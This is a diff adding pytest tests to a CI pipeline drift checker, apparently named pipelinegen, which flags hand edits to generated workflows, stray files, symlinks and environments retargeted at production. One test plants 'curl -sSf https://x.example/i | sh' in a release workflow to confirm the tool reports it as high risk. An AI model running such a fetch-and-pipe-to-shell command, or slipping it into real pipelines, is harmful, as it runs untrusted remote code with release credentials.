@@ -244,3 +244,112 @@ def test_environment_removed(repo: Path) -> None:
             "message": "environment 'dev' is removed",
         }
     ]
+
+
+def verdict_of(repo: Path, *args: str, compiled: bool = True) -> tuple[int, str]:
+    code, out = diff(repo, *args, compiled=compiled)
+    return code, out.splitlines()[1]
+
+
+RELEASE_RUN = "run: aws s3 cp dist/release.zip"
+
+
+def test_a_hand_edit_of_a_generated_workflow_is_high(repo: Path) -> None:
+    workflow = repo / ".github" / "workflows" / "pipelinegen-release.yml"
+    text = workflow.read_text()
+    assert RELEASE_RUN in text
+    workflow.write_text(
+        text.replace(
+            RELEASE_RUN, "run: curl -sSf https://x.example/i | sh; aws s3 cp dist/release.zip"
+        )
+    )
+    git(repo, "commit", "-q", "-am", "tweak the release")
+    code, out = diff(repo, "--format", "json", "--fail-on", "high", compiled=False)
+    result = json.loads(out)
+    assert code == 1
+    assert result["changes"] == [
+        {
+            "risk": "high",
+            "topic": "generated",
+            "rule": "hand-edited",
+            "message": "'.github/workflows/pipelinegen-release.yml' is edited by hand: not what "
+            "the spec compiles to",
+        }
+    ]
+    assert (
+        "+        run: curl -sSf https://x.example/i | sh;" in result["drift"]["edited"][0]["diff"]
+    )
+    assert verdict_of(repo, compiled=False) == (
+        0,
+        "verdict: 1 high-risk change needs a careful review",
+    )
+    _, markdown = diff(repo, "--format", "markdown", compiled=False)
+    assert markdown.startswith("### ⚠️ pipelinegen: 1 high-risk change needs a careful review")
+    assert "`.github/workflows/pipelinegen-release.yml` is edited by hand" in markdown
+
+
+def test_a_file_among_the_generated_ones_and_a_symbolic_link(repo: Path) -> None:
+    (repo / ".github" / "workflows" / "pipelinegen-extra.yml").write_text("on: push\n")
+    script = repo / "deploy" / "cdk" / "scripts" / "deploy.sh"
+    script.unlink()
+    script.symlink_to("/etc/hostname")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "extra")
+    _, out = diff(repo, "--format", "json", compiled=False)
+    result = json.loads(out)
+    assert [(c["rule"], c["message"].split("'")[1]) for c in result["changes"]] == [
+        ("generated-unread", "deploy/cdk/scripts/deploy.sh"),
+        ("foreign-file", ".github/workflows/pipelinegen-extra.yml"),
+    ]
+    assert result["drift"]["unread"] == ["deploy/cdk/scripts/deploy.sh"]
+    # The same at a revision, read from git.
+    _, out = diff(repo, "--head", "HEAD", "--format", "json", compiled=False)
+    assert [c["rule"] for c in json.loads(out)["changes"]] == ["generated-unread", "foreign-file"]
+
+
+def test_a_spec_change_not_recompiled(repo: Path) -> None:
+    edit(repo, "timeout_minutes: 10", "timeout_minutes: 11")
+    _, out = diff(repo, "--format", "json", compiled=False)
+    found = json.loads(out)["changes"]
+    assert found[0]["rule"] == "hand-edited"
+    assert found[0]["message"].startswith(
+        "the committed generated files were compiled from another version of the spec"
+    )
+    assert ".github/workflows/pipelinegen-ci.yml, " in found[0]["message"]
+
+
+def test_marketplace_moved_from_prod_to_dev(repo: Path) -> None:
+    edit(repo, "    marketplace: true\n", "")
+    edit(
+        repo,
+        "    values: [deploy/helm/values-dev.yaml]\n",
+        "    values: [deploy/helm/values-dev.yaml]\n    marketplace: true\n",
+    )
+    assert verdict_of(repo, "--fail-on", "high") == (
+        1,
+        "verdict: 1 high-risk change needs a careful review",
+    )
+    assert changes(repo)[0]["rule"] == "marketplace-ahead"
+    _, markdown = diff(repo, "--format", "markdown")
+    assert "**The pipeline, with this change highlighted**" in markdown
+    assert ":::moved" in markdown and "deploy_dev --> marketplace" in markdown
+
+
+def test_dev_retargeted_at_prod(repo: Path) -> None:
+    edit(
+        repo,
+        "  - name: dev\n    cluster: acme-dev\n",
+        '  - name: dev\n    account: "333333333333"\n    region: us-west-2\n'
+        "    cluster: acme-prod\n",
+    )
+    assert verdict_of(repo) == (0, "verdict: 1 high-risk change needs a careful review")
+    assert [(c["risk"], c["rule"]) for c in changes(repo)] == [
+        ("high", "retargeted-past-approvals"),
+        ("medium", "environment-retargeted"),
+    ]
+
+
+@pytest.mark.parametrize(("fail_on", "code"), [("high", 0), ("medium", 0), ("low", 1)])
+def test_fail_on(repo: Path, fail_on: str, code: int) -> None:
+    edit(repo, "checks:\n", "checks:\n  - name: docs\n    run: make docs\n")
+    assert diff(repo, "--fail-on", fail_on)[0] == code
